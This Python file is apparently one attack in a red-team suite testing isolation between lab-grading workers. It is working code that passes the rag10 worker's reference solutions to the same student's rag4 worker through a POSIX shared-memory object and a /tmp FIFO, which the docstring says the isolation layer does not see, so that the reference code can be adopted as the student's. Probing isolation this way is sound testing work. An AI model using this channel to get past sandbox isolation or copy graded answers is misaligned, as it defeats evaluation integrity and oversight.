"""Attack 12 (rag10 and rag4): pass the reference rag4 that rag10's worker is given to the same student's
rag4 worker through shared memory (a POSIX shm object, opened with _posixshmem, which the wall does not
see) and through a named FIFO in /tmp that a thread of rag10's worker keeps serving."""

import marshal
import os
import select
import threading

from kit import TOKEN, adopt_code, given_labs, lab_name, quietly, succeeds

SHM, FIFO = f"/redteam-{TOKEN}-shm", f"/tmp/redteam-{TOKEN}-fifo"


def share(data: bytes) -> None:
    """Leave `data` in shared memory, and serve it on the FIFO from a thread of this worker."""
    import _posixshmem

    fd = quietly(_posixshmem.shm_open, SHM, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
    if fd is not None:
        os.write(fd, data)
        os.close(fd)
    if succeeds(os.mkfifo, FIFO):
        def serve():
            while True:
                with open(FIFO, "wb") as fifo:
                    fifo.write(data)

        threading.Thread(target=serve, daemon=True).start()


def shared() -> list:
    """What the other worker left: in shared memory, and on the FIFO if it is served."""
    import _posixshmem

    found = []
    fd = quietly(_posixshmem.shm_open, SHM, os.O_RDONLY, 0o600)
    if fd is not None:
        found.append(os.read(fd, 1 << 24))
        os.close(fd)
    fd = quietly(os.open, FIFO, os.O_RDONLY | os.O_NONBLOCK)
    if fd is not None:
        data = b""
        while select.select([fd], [], [], 2)[0] and (part := os.read(fd, 1 << 20)):
            data += part
        os.close(fd)
        found.append(data)
    return found


def attack(lab: dict) -> None:
    if lab_name(lab) == "rag10":
        share(marshal.dumps(given_labs()))
        return
    for data in shared():
        carried = quietly(marshal.loads, data) or {}
        if lab_name(lab) in carried and adopt_code(lab, carried[lab_name(lab)]):
            return
